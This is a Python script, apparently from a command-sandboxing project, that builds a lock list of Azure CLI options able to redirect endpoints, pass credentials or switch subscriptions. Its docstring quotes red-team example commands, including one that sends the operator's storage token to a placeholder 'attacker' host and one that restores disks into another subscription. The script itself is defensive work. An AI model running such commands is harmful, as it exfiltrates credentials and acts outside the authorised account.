#!/usr/bin/env python3
"""List the az arguments that pick the endpoint az talks to, a credential, or another subscription.

    /usr/bin/python3 scripts/providers/az_scope_options.py --arguments FILE   # rewrite az-scope-options.txt

`az storage blob list --blob-endpoint https://attacker/ --auth-mode login` sends the
operator's storage token to attacker; `storage blob upload --connection-string
"BlobEndpoint=http://127.0.0.1:PORT/;..."` uploads to a local server (red team 10b F4);
`backup restore restore-disks --target-subscription-id OTHER` leaves the signed-in
subscription (red team 10 F3). Each does, as a command's own argument, what a locked
global option does, so these become `argv.locked_command_options`.

The arguments are az's own command table, as az_file_writes.py loads and saves it
(`az_file_writes.py --save-arguments FILE`, about 5 minutes): every loaded command's option
names, plus, for the command modules that do not load (Debian's az 2.45), the arguments
written in their source (az_file_writes.source_arguments). A candidate is a long name the
review's `candidate` regex matches; it takes the verdict of the first row of
az-scope-options-reviewed.json whose `command` and `option` regexes match (`lock` or
`allow`, with why); a candidate no row matches stops the script.

Written: scripts/providers/az-scope-options.txt, one line per command group (the first
command word) and locked option (`group --option  # lock`), the allowed candidates as
`# allow` lines; az-options.py turns the `lock` lines into rows (`command: [group]`).
An az prefix spelling (`--blob-e`) is refused as the full name. A group row also covers a
command of the group without the option: az refuses the unknown option there anyway, unless
a shorter option of that command is a prefix of the locked name (`--endpoint` of
`--endpoint-name`): such a group is written per command instead.
"""

import argparse
import json
import os
import re
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
LISTING = os.path.join(HERE, "az-scope-options.txt")
REVIEWED = os.path.join(HERE, "az-scope-options-reviewed.json")


def with_sources(found, failed):
    """[(command, names)] of every command: loaded ones, and the failed modules' source arguments."""
    sys.path.insert(0, HERE)
    from az_file_writes import source_arguments

    commands = [(command, names) for command, names, _ in found]
    for module in sorted({m for _, m in failed}):
        failing = sorted({c for c, m in failed if m == module})
        for scope, names, _ in source_arguments(module, failing):
            commands += [(c, names) for c in failing if scope is None or re.match("(%s)( |$)" % scope, c)]
    return commands


def verdicts(commands, review):
    """{(command, option): (verdict, why)} for every candidate; exits naming an unreviewed one."""
    candidate = re.compile(review["candidate"])
    rows = [(re.compile(r["command"]), re.compile(r["option"]), r["verdict"], r["why"]) for r in review["rows"]]
    found, unreviewed = {}, set()
    for command, names in commands:
        for name in (n for n in names if n.startswith("--") and candidate.search(n)):
            row = next((r for r in rows if r[0].search(command + " ") and r[1].search(name)), None)
            if row is None:
                unreviewed.add("%s %s" % (command, name))
            else:
                found[(command, name)] = row[2:]
    if unreviewed:
        sys.exit("no review row in %s for:\n  %s" % (REVIEWED, "\n  ".join(sorted(unreviewed))))
    return found


def _colliders(option, arguments):
    """Names of other arguments that are strict prefixes of `option` (`--file` of `--file-endpoint`);
    an alias of the same argument (`--org` of `--organization`) is the same option."""
    return [n for names in arguments if option not in names for n in names if n.startswith("--") and n != option and option.startswith(n)]


def listing_lines(commands, found):
    """Listing lines: `group --option  # lock` when no command of the group has another argument
    whose name is a prefix of it; else per command: `command words --option  # lock`, or, when
    that command has such an argument (argparse reads its exact name as that argument, a longer
    prefix as the locked one), `command words --option  # lock from --shortest-refused-prefix`.
    Then the allowed candidates as `--option  # allow`."""
    arguments_of = {}
    for command, names in commands:
        arguments_of.setdefault(command, []).append(names)
    locked = sorted({key for key, (verdict, _) in found.items() if verdict == "lock"})
    lines = set()
    for command, option in locked:
        group = command.split()[0]
        in_group = [names for cmd, args in arguments_of.items() if cmd.split()[0] == group for names in args]
        if not _colliders(option, in_group):
            lines.add("%s %s  # lock" % (group, option))
            continue
        own = _colliders(option, arguments_of[command])
        longest = max((len(n) for n in own), default=0)
        lines.add("%s %s  # lock%s" % (command, option, " from %s" % option[: longest + 1] if own else ""))
    allowed = sorted({option for (_, option), (verdict, _) in found.items() if verdict == "allow"})
    locked_names = {option for _, option in locked}
    return sorted(lines) + ["%s  # allow" % option for option in allowed if option not in locked_names]


def yaml_rows(indent="    "):
    """argv.locked_command_options rows from the committed listing's `lock` lines, one per command
    path; a `lock from --pre` line is an exact row with every prefix from `--pre` to the full name."""
    by_path, exact = {}, []
    for line in open(LISTING).read().splitlines():
        if not line or line.startswith("#") or "  # lock" not in line:
            continue
        words, note = line.split("  # lock")
        words = words.split()
        path, option = tuple(words[:-1]), words[-1]
        if note.startswith(" from "):
            shortest = note[len(" from ") :]
            spellings = [option[:n] for n in range(len(option), len(shortest) - 1, -1)]
            exact.append((path, spellings))
        else:
            by_path.setdefault(path, []).append(option)
    rows = [(path, sorted(opts), "") for path, opts in by_path.items()] + [(path, opts, ", exact: true") for path, opts in exact]
    return ["%s- {command: [%s], options: [%s]%s}" % (indent, ", ".join(path), ", ".join(opts), extra) for path, opts, extra in sorted(rows)]


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--arguments", required=True, metavar="FILE", help="the arguments saved by az_file_writes.py --save-arguments")
    ap.add_argument("--listing", metavar="FILE", default=LISTING, help="the listing to write (default: the committed one)")
    opts = ap.parse_args()
    found, failed = json.load(open(opts.arguments))
    commands = with_sources(found, [tuple(f) for f in failed])
    lines = listing_lines(commands, verdicts(commands, json.load(open(REVIEWED))))
    head = (
        "# az arguments that pick the endpoint az talks to, a credential or another subscription (lock:\n"
        "# argv.locked_command_options under the command group), and the reviewed candidates allowed.\n"
        "# Generated by scripts/providers/az_scope_options.py from az's command table and\n"
        "# scripts/providers/az-scope-options-reviewed.json.\n"
    )
    open(opts.listing, "w").write(head + "".join(line + "\n" for line in lines))
    sys.stderr.write("%d lines, %d lock\n" % (len(lines), sum(l.endswith("# lock") for l in lines)))


if __name__ == "__main__":
    main()
